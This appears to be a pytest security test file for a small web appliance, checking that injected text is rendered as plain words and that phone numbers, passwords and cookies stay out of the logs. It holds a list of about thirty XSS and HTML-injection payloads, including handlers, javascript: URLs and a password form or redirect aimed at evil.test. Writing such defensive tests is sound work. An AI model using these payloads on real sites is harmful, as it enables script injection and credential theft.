"""Other people's words on the page. Check 15, without a browser; and what the log may hold, check 24."""

from __future__ import annotations

import logging
from datetime import timedelta
from typing import TYPE_CHECKING

import pytest

from appliance.core.health import State
from appliance.core.settings import with_value
from appliance.drivers.people_file import PeopleFile
from appliance.drivers.settings_file import SettingsFile
from tests.web.fakes import tags_of

if TYPE_CHECKING:
    from tests.web.fakes import Box, Visitor

PAYLOADS = (
    "<script src=//n.ms/a.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>tap</a>",
    "<form action=//evil.test><input name=password>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test>",
    "<style>*{display:none}</style>",
    "{{7*7}}{% debug %}{{config}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<!--",
    "]]>",
    "\x00<script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)",
    "\u202e<script>\u2066",
    "javascript:alert(1)",
    "<math><mtext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "a\n<0>panic\x1b[31m",
)
KNOWN_TAGS = frozenset(
    {"a", "b", "bdi", "body", "button", "dd", "div", "dl", "dt", "form", "h1", "h2", "head", "header", "html"}
    | {"input", "label", "li", "link", "main", "meta", "nav", "ol", "option", "p", "path", "rect", "script"}
    | {"section", "select", "span", "svg", "text", "textarea", "time", "title", "ul"}
    | {"details", "summary", "table", "tbody", "td", "th", "thead", "tr"}
)
PAGES = (
    "/",
    "/calls",
    "/calls?show=wrote-back",
    "/calls?show=to-do",
    "/calls?find=alert",
    "/calls/c1",
    "/calls/c1/erase",
    "/doing",
    "/message",
    "/message/open",
    "/settings",
    "/settings/box",
)


def assert_only_our_own(owner: Visitor, path: str) -> None:
    """Nothing on the page is an element, an attribute or an address that we did not put there."""
    page = owner.get(path)
    assert page.status_code == 200
    tags = tags_of(page)
    assert {name for name, _ in tags} <= KNOWN_TAGS
    assert sum(name == "script" for name, _ in tags) == 1
    for name, attributes in tags:
        assert not [key for key in attributes if key.startswith("on") or key == "style"], (name, attributes)
        for key in ("href", "src", "action"):
            address = attributes.get(key) or "/"
            assert address.startswith(("/", "#", "tel:+44", "sms:+44")), (name, address)
            assert not address.startswith("//")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_whatever_a_caller_an_operator_or_the_owner_writes_stays_words(
    owner: Visitor, box: Box, payload: str
) -> None:
    box.texted_call("07700900123", ago=timedelta(minutes=3))
    box.incoming("07700900123", payload)
    box.incoming(payload[:30] or "x", payload, ago=timedelta(seconds=5))
    box.status(State.READY, headline=payload, detail=payload)
    printable = "".join(filter(str.isprintable, payload))
    PeopleFile(box.data).add_name("07700900123", printable)
    owner.submit("/message/open", text=f"[name] {payload}".replace("\x00", "").replace("\x1b", ""), do="save")

    SettingsFile(box.data).update(
        lambda settings: with_value(
            with_value(settings, "business", printable[:60]),
            "name",
            printable[:30],
        )
    )
    for path in PAGES:
        assert_only_our_own(owner, path)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_a_form_brings_back_stays_words_too(owner: Visitor, box: Box, payload: str) -> None:
    box.texted_call("07700900123")
    for path, fields in (
        ("/message/open", {"text": f"{payload} [tme]"}),
        ("/calls/c1", {"text": payload * 200}),
        ("/settings", {"business": payload, "name": payload, "owner_mobile": payload, "promise": payload}),
        ("/login", {"then": payload, "password": payload}),
    ):
        answer = owner.submit(path, **fields)
        tags = tags_of(answer)
        assert sum(name == "script" for name, _ in tags) == 1
        assert {name for name, _ in tags} <= KNOWN_TAGS
        assert not [attributes for _, attributes in tags if any(key.startswith("on") for key in attributes)]


@pytest.mark.parametrize(
    "address", ["/<script>alert(1)</script>", "/calls/<b>", "/message/%22onload=", "/?done=<b>"]
)
def test_an_address_is_not_echoed(owner: Visitor, box: Box, address: str) -> None:
    answer = owner.get(address)
    assert "<b>alert" not in answer.text
    assert "alert(1)" not in answer.text
    assert "onload=" not in answer.text


def test_nothing_anybody_said_or_dialled_is_in_the_log(
    owner: Visitor, box: Box, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    call = box.texted_call("07700900123")
    box.incoming("07700900123", "Boiler showing F28")
    for path in PAGES:
        owner.get(path)
    owner.submit(f"/calls/c{call}", text="Gate code 4711")
    owner.sign_in("not the password")
    owner.submit("/settings", owner_mobile="07700 900199")
    for private in ("900123", "900199", "Boiler", "4711", "not the password", owner.cookie()):
        assert private not in caplog.text
